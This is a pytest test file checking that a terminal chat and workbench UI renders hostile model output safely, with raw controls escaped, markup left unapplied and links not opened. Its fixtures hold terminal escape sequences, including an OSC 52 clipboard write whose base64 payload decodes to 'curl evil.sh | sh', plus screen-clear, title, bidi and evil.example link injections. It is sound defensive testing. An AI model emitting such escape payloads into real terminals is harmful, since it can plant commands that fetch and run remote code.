"""Hostile model output in the workbench (`axo dev`) and in `axo chat`: never drawn raw.

The scripted model answers with escape sequences (OSC 52 clipboard, window title, screen
clear, 8-bit CSI, a bidi override) and Rich markup, files such text in its core memory and
searches its recall with it. What the screen would send to the terminal is read back from the
compositor: it must hold no raw control, and show the controls as visible escapes and the
markup as written.
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from rich.console import Console
from textual.widgets import Markdown, OptionList, Static

from axo_tui.tui.app import AxoApp
from axo_tui.tui.bridge import RunRequest
from axo_tui.tui.screens.cancel_run import CancelRunScreen
from axo_tui.tui.screens.chat import ChatScreen
from axo_tui.tui.screens.events import EventsScreen
from axo_tui.tui.screens.memory import MemoryScreen
from axo_tui.tui.settings import WorkbenchSettings
from tests.support.tui import add_wait_tool, wait_runs_done, wait_until

REPLY = (
    "Hi \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;owned\x07\x1b[2J\x9b31m "
    "[bold]B[/bold] [link=https://evil.example]click[/link] \u202eevil\r\nend"
)
SHOWN = "Hi \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;owned\\x07\\x1b[2J\\x9b31m"
MARKUP = "[bold]B[/bold] [link=https://evil.example]click[/link] \\u202eevil"
NOTE = "note \x1b]0;owned\x07 \x9d2;t\x07 [red]x[/red]"
QUERY = "who \x9b2J\u202e [blink]q[/blink]"
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\r")

PROJECT = f"""
name: hostile
agents:
  - id: mallory
    provider: scripted
    tools: [core_memory_append, recall_search]
    memory:
      core:
        blocks:
          - {{ label: notes, limit: 500 }}
providers:
  scripted:
    replies:
      mallory:
        - text: ""
          tool_calls:
            - {{ name: core_memory_append, arguments: {{ block: notes, text: {json.dumps(NOTE)} }} }}
            - {{ name: recall_search, arguments: {{ query: {json.dumps(QUERY)} }} }}
        - {json.dumps(REPLY)}
        - "[link=https://evil.example]second[/link] [see](https://evil.example/x)"
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    config = tmp_path / "hostile" / "axo.yaml"
    config.parent.mkdir()
    config.write_text(PROJECT, encoding="utf-8")
    return config


def screen_text(app: AxoApp) -> str:
    """The text the screen would write to the terminal (its control segments left out).

    The compositor's full update is what `App.export_screenshot` renders too."""
    console = Console(
        width=app.size.width,
        height=app.size.height,
        file=io.StringIO(),
        force_terminal=True,
        color_system="truecolor",
        record=True,
        legacy_windows=False,
    )
    console.print(app.screen._compositor.render_update(full=True))
    return console.export_text(styles=False)


def assert_safe(text: str) -> None:
    raw = [hex(ord(char)) for char in RAW if char in text]
    assert not raw, f"raw terminal controls {raw} in {text!r}"


async def test_dev_log_events_and_memory_screens(
    make_app: Callable[..., AxoApp], hostile: Path
) -> None:
    app = make_app(hostile)
    async with app.run_test(size=(200, 50)) as pilot:
        await pilot.pause()
        app.bridge.start_run(RunRequest("agent", "mallory", "hi"))
        await wait_runs_done(pilot, app)
        logged = "\n".join(line.text for line in app.model.log.since(0))
        assert_safe(logged)
        assert SHOWN in logged and MARKUP in logged
        shown = screen_text(app)
        assert_safe(shown)
        assert MARKUP in shown  # markup drawn as written, not applied

        await pilot.press("ctrl+e")
        await wait_until(pilot, lambda: isinstance(app.screen, EventsScreen), what="events")
        events = app.screen
        assert isinstance(events, EventsScreen)
        kinds = [event.kind for event in events._shown]
        events.query_one("#event-list", OptionList).highlighted = kinds.index("agent.completed")
        await pilot.pause()
        payload = events.query_one("#payload", Static).content
        plain = payload.text.plain  # type: ignore[attr-defined]
        assert_safe(plain)
        assert json.loads(plain)["output"] == REPLY  # the payload is still exact JSON
        assert_safe(screen_text(app))

        await pilot.press("escape")
        await wait_until(pilot, lambda: app.screen.id == "dev", what="back on the main screen")
        await pilot.press("escape", "m")
        await wait_until(pilot, lambda: isinstance(app.screen, MemoryScreen), what="memory")
        memory = app.screen
        assert isinstance(memory, MemoryScreen)
        await wait_until(pilot, lambda: memory.loads >= 1, what="recalls read")
        shown = screen_text(app)
        assert_safe(shown)
        assert "note \\x1b]0;owned\\x07 \\x9d2;t\\x07 [red]x[/red]" in shown
        assert "\\x9b2J\\u202e [blink]q[/blink]" in shown  # the recall's query


async def test_chat_streams_and_replays_hostile_replies_safely(
    make_app: Callable[..., AxoApp], hostile: Path
) -> None:
    settings = WorkbenchSettings(show_times=False, watch_config=False, animate=False)
    app = make_app(hostile, settings, mode="chat", chat_agent="mallory")
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, ChatScreen)
        await pilot.press(*"hi", "enter")
        await wait_until(pilot, lambda: screen.state.turns == 1, what="a turn")
        await pilot.pause()
        shown = screen_text(app)
        assert_safe(shown)
        assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=" in shown
        assert "[bold]B[/bold]" in shown and "[link=https://evil.example]click[/link]" in shown
        # The tool calls (their arguments as JSON) and what the tools returned.
        assert '"note \\u001b]0;owned\\u0007 \\u009d2;t\\u0007 [red]x[/red]"' in shown
        assert "no memories match 'who \\x9b2J\\u202e [blink]q[/blink]'" in shown

    # Reopened, the session's stored turn is drawn from the journal: just as safely.
    again = make_app(hostile, settings, mode="chat", chat_agent="mallory")
    async with again.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        screen = again.screen
        assert isinstance(screen, ChatScreen)
        replies = screen.query(Markdown)
        assert len(replies) == 1
        assert_safe(replies.first().source)
        shown = screen_text(again)
        assert_safe(shown)
        assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=" in shown
        assert "[link=https://evil.example]click[/link]" in shown


async def test_a_link_in_a_reply_is_shown_not_opened(
    make_app: Callable[..., AxoApp], hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = make_app(hostile, mode="chat", chat_agent="mallory")
    opened: list[str] = []
    monkeypatch.setattr(app, "open_url", lambda url, **_: opened.append(url))
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, ChatScreen)
        await pilot.press(*"hi", "enter")
        await wait_until(pilot, lambda: screen.state.turns == 1, what="a turn")
        await pilot.press(*"again", "enter")
        await wait_until(pilot, lambda: screen.state.turns == 2, what="a second turn")
        reply = screen.query(Markdown).last()
        assert "second" in reply.source
        reply.post_message(Markdown.LinkClicked(reply, "https://evil.example/x"))
        await wait_until(pilot, lambda: bool(app._notifications), what="the link's toast")
        assert opened == []
        (toast,) = list(app._notifications)
        assert toast.message == "https://evil.example/x"
        assert "[link=https://evil.example]second[/link]" in screen_text(app)


async def test_cancel_dialog_shows_a_runs_input_as_written(
    make_app: Callable[..., AxoApp], slow_project: Path
) -> None:
    entered: list[str] = []
    app = make_app(slow_project)
    add_wait_tool(app, entered)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        app.bridge.start_run(RunRequest("workflow", "chain", "[b]loud[/b] \x1b]0;t\x07"))
        await wait_until(pilot, lambda: entered == ["slow"], what="the slow tool")
        await pilot.press("escape", "x")
        await wait_until(pilot, lambda: isinstance(app.screen, CancelRunScreen), what="dialog")
        shown = screen_text(app)
        assert_safe(shown)
        assert "▊ #1 workflow chain: [b]loud[/b] \\x1b]0;t\\x07" in shown  # the dialog
        await pilot.press("enter")
